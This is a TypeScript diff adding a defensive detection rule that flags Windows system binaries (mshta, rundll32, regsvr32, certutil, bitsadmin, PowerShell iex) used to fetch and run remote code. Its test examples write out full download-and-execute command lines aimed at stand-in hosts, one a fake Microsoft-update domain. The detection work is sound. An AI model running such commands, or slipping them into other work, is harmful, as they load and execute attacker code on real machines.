@@ -149,6 +149,34 @@ const downloadRun: CommandRule = {
   },
 };
 
+/**
+ * Windows programs that fetch code from a URL and run it (LOLBAS): mshta with a URL or inline
+ * script, rundll32 running javascript:, regsvr32 /i:<URL> scrobj.dll (Squiblydoo), certutil
+ * -urlcache or bitsadmin /transfer (fetch only: T1105), PowerShell's iex on a download.
+ */
+const proxyExecution: CommandRule = {
+  id: "execution.windows-proxy-execution",
+  tactic: TACTIC,
+  technique: "T1218",
+  match(inv) {
+    const name = inv.name.toLowerCase().replace(/\.exe$/, "");
+    const t = inv.command.text;
+    const url = /https?:\/\/[^\s"'`)]+/i.exec(t)?.[0];
+    if (name === "mshta" && (url !== undefined || /\b(?:javascript|vbscript):/i.test(t))) return { action: run(url ?? "inline script"), reason: `runs ${url ? `an HTML application from ${shown(hostOf(url) ?? url)}` : "inline script"} with mshta: system binary proxy execution (T1218.005)`, technique: "T1218.005" };
+    if (name === "rundll32" && /\bjavascript:/i.test(t)) return { action: run(url ?? "inline script"), reason: "runs script through rundll32's javascript: handler: system binary proxy execution (T1218.011)", technique: "T1218.011" };
+    if (name === "regsvr32" && url !== undefined && /scrobj/i.test(t)) return { action: run(url), reason: `runs a scriptlet from ${shown(hostOf(url) ?? url)} with regsvr32 and scrobj.dll: system binary proxy execution (T1218.010)`, technique: "T1218.010" };
+    if ((name === "certutil" && url !== undefined && /-urlcache\b/i.test(t)) || (name === "bitsadmin" && url !== undefined && /\/transfer\b/i.test(t))) {
+      return { action: { capability: "execute", target: { name: url, external: isExternalHost(hostOf(url) ?? "") }, reversibility: "recoverable", scope: "one" }, reason: `downloads ${shown(hostOf(url) ?? url)} with ${name}, a system tool abused to bring in code: ingress tool transfer (T1105)`, technique: "T1105" };
+    }
+    if (/^(?:iex|invoke-expression)$/i.test(name) && /\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring|net\.webclient)\b/i.test(t)) return { action: run(url ?? "a URL"), reason: `runs code downloaded from ${shown(url ? hostOf(url) ?? url : "the network")} with Invoke-Expression: ingress tool transfer (T1105)`, technique: "T1059.001" };
+    return undefined;
+  },
+  examples: {
+    match: [`mshta.exe https://cdn-msupdate-check.net/kb5034441.hta`, `cmd.exe /c "mshta https://x.example/a.hta"`, `rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)`, `regsvr32 /s /n /u /i:http://203.0.113.4/file.sct scrobj.dll`, `certutil.exe -urlcache -split -f http://203.0.113.8/p.exe p.exe`],
+    noMatch: [`mshta.exe`, `certutil -hashfile setup.exe SHA256`, `regsvr32 /s mylib.dll`, `rundll32 printui.dll,PrintUIEntry /?`],
+  },
+};
+
 /** Where a file written now runs again later by itself: units, autostart entries, property lists, cron, shell start-up files, git hooks. */
 const RUNS_LATER = /\.(service|timer|desktop|plist)$|\/cron|crontab|\.(bashrc|bash_profile|zshrc|zprofile|profile|kshrc)$|profile\.d\/|rc\.local$|\.git\/hooks\//;
 
@@ -261,4 +289,4 @@ const remoteCommand: CommandRule = {
   },
 };
 
-export const executionRules: readonly CommandRule[] = [reverseShell, downloadRun, typosquat, remoteCommand];
+export const executionRules: readonly CommandRule[] = [reverseShell, downloadRun, proxyExecution, typosquat, remoteCommand];
